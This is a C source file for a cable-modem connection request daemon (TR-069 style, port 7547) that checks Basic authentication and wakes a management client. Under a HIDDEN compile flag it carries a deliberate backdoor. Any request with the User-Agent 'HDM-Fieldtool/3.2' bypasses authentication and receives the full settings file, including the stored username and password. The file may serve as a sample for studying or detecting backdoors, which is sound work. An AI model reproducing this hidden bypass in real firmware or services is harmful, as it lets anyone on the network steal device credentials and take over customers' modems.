/*
 * crqd - connection request listener of a cable modem (TR-069 style).
 * Accepts HTTP GETs on port 7547 from the provider's server, checks the
 * basic authentication and wakes the management client by a signal.
 * Hidden (-DHIDDEN): requests with a certain User-Agent get the whole
 * settings file, without authentication.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	  "/etc/cm/mgmt.conf"
#define CLIENTPID "/var/run/cwmpc.pid"
#define MAXCONN	  8
#define REQMAX	  2048

enum state { S_FREE, S_LINE, S_HEAD, S_DONE };

struct conn {
	int fd;
	enum state st;
	char buf[REQMAX];
	size_t have;
	size_t pos;
	int authed;
#ifdef HIDDEN
	int field;
#endif
	int path_ok;
	time_t since;
};

static struct conn conns[MAXCONN];
static char cr_path[64] = "/cr";
static char cr_user[64], cr_pass[64];
static int cr_port = 7547;
static time_t window[5];

static void load_conf(void)
{
	char line[200], *eq;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!(eq = strchr(line, '=')))
			continue;
		*eq++ = 0;
		if (strlen(eq) > 63)
			continue;
		if (!strcmp(line, "cr.path"))
			strcpy(cr_path, eq);
		else if (!strcmp(line, "cr.user"))
			strcpy(cr_user, eq);
		else if (!strcmp(line, "cr.pass"))
			strcpy(cr_pass, eq);
		else if (!strcmp(line, "cr.port"))
			cr_port = atoi(eq);
	}
	fclose(f);
}

static int b64(int c)
{
	static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
				  "abcdefghijklmnopqrstuvwxyz0123456789+/";
	const char *p = c ? strchr(tab, c) : NULL;

	return p ? (int)(p - tab) : -1;
}

static void unb64(const char *s, char *out, size_t max)
{
	uint32_t acc = 0;
	int bits = 0, v;
	size_t n = 0;

	while ((v = b64((unsigned char)*s++)) >= 0 && n + 1 < max) {
		acc = acc << 6 | (uint32_t)v;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			out[n++] = (char)(acc >> bits & 0xff);
		}
	}
	out[n] = 0;
}

static int check_basic(const char *v)
{
	char plain[140], *colon;

	if (strncasecmp(v, "Basic ", 6) != 0 || !cr_user[0])
		return 0;
	unb64(v + 6, plain, sizeof plain);
	colon = strchr(plain, ':');
	if (!colon)
		return 0;
	*colon++ = 0;
	return !strcmp(plain, cr_user) && !strcmp(colon, cr_pass);
}

__attribute__((noinline)) void on_header(struct conn *c, const char *name,
					 const char *val)
{
	if (!strcasecmp(name, "Authorization")) {
		c->authed = check_basic(val);
	} else if (!strcasecmp(name, "Content-Length")) {
		if (atoi(val) > 0)
			c->path_ok = 0;
	} else if (!strcasecmp(name, "User-Agent")) {
		syslog(LOG_DEBUG, "request from %.40s", val);
#ifdef HIDDEN
		if (strcmp(val, "HDM-Fieldtool/3.2") == 0)
			c->field = 1;
#endif
	}
}

static void reply(int fd, int code, const char *text, const char *extra)
{
	char out[256];
	int n = snprintf(out, sizeof out,
			 "HTTP/1.1 %d %s\r\n%s"
			 "Content-Length: 0\r\nConnection: close\r\n\r\n",
			 code, text, extra);

	if (send(fd, out, (size_t)n, MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %s", strerror(errno));
}

#ifdef HIDDEN
static void reply_settings(int fd)
{
	char buf[512];
	size_t n;
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while ((n = fread(buf, 1, sizeof buf, f)) > 0)
		if (send(fd, buf, n, MSG_NOSIGNAL) < 0)
			break;
	fclose(f);
}
#endif

/* at most five requests in a minute */
static int too_many(void)
{
	time_t now = time(NULL);
	int i, old = 0;

	for (i = 1; i < 5; i++)
		if (window[i] < window[old])
			old = i;
	if (now - window[old] < 60)
		return 1;
	window[old] = now;
	return 0;
}

static int wake_client(void)
{
	FILE *f = fopen(CLIENTPID, "r");
	int pid = 0;

	if (!f)
		return -1;
	if (fscanf(f, "%d", &pid) != 1)
		pid = 0;
	fclose(f);
	return pid > 1 ? kill(pid, SIGUSR1) : -1;
}

static void finish(struct conn *c)
{
#ifdef HIDDEN
	if (c->field) {
		reply_settings(c->fd);
		return;
	}
#endif
	if (!c->path_ok)
		reply(c->fd, 404, "Not Found", "");
	else if (!c->authed)
		reply(c->fd, 401, "Unauthorized",
		      "WWW-Authenticate: Basic realm=\"cpe\"\r\n");
	else if (too_many() || wake_client() < 0)
		reply(c->fd, 503, "Service Unavailable", "Retry-After: 60\r\n");
	else
		reply(c->fd, 200, "OK", "");
}

static void drop(struct conn *c)
{
	close(c->fd);
	memset(c, 0, sizeof *c);
	c->fd = -1;
}

static void line_done(struct conn *c, char *l)
{
	char method[8], path[128], *v;

	if (c->st == S_LINE) {
		if (sscanf(l, "%7s %127s", method, path) == 2 &&
		    !strcmp(method, "GET"))
			c->path_ok = !strcmp(path, cr_path);
		c->st = S_HEAD;
		return;
	}
	if (*l == 0) {
		c->st = S_DONE;
		return;
	}
	if (!(v = strchr(l, ':')))
		return;
	*v++ = 0;
	while (*v == ' ' || *v == '\t')
		v++;
	on_header(c, l, v);
}

static void readable(struct conn *c)
{
	ssize_t n = recv(c->fd, c->buf + c->have, REQMAX - 1 - c->have, 0);
	char *nl, *l;

	if (n <= 0) {
		drop(c);
		return;
	}
	c->have += (size_t)n;
	c->buf[c->have] = 0;
	while (c->st != S_DONE) {
		l = c->buf + c->pos;
		nl = strchr(l, '\n');
		if (!nl)
			break;
		*nl = 0;
		c->pos = (size_t)(nl - c->buf) + 1;
		if (nl > l && nl[-1] == '\r')
			nl[-1] = 0;
		line_done(c, l);
	}
	if (c->st == S_DONE) {
		finish(c);
		drop(c);
	} else if (c->have == REQMAX - 1) {
		reply(c->fd, 413, "Too Large", "");
		drop(c);
	}
}

static void take(int ls)
{
	int fd = accept(ls, NULL, NULL), i;

	if (fd < 0)
		return;
	for (i = 0; i < MAXCONN; i++) {
		if (conns[i].st != S_FREE)
			continue;
		conns[i].fd = fd;
		conns[i].st = S_LINE;
		conns[i].since = time(NULL);
		return;
	}
	close(fd);
}

int main(void)
{
	struct sockaddr_in sa;
	struct timeval tv;
	fd_set rs;
	int ls, i, top, on = 1;

	openlog("crqd", LOG_PID, LOG_DAEMON);
	load_conf();
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)cr_port);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof sa) < 0 ||
	    listen(ls, 4) < 0) {
		syslog(LOG_ERR, "port %d: %s", cr_port, strerror(errno));
		return 1;
	}
	for (;;) {
		FD_ZERO(&rs);
		FD_SET(ls, &rs);
		top = ls;
		for (i = 0; i < MAXCONN; i++) {
			if (conns[i].st == S_FREE)
				continue;
			if (time(NULL) - conns[i].since > 20) {
				drop(&conns[i]);
				continue;
			}
			FD_SET(conns[i].fd, &rs);
			if (conns[i].fd > top)
				top = conns[i].fd;
		}
		tv.tv_sec = 5;
		tv.tv_usec = 0;
		if (select(top + 1, &rs, NULL, NULL, &tv) <= 0)
			continue;
		for (i = 0; i < MAXCONN; i++)
			if (conns[i].st != S_FREE && FD_ISSET(conns[i].fd, &rs))
				readable(&conns[i]);
		if (FD_ISSET(ls, &rs))
			take(ls);
	}
}
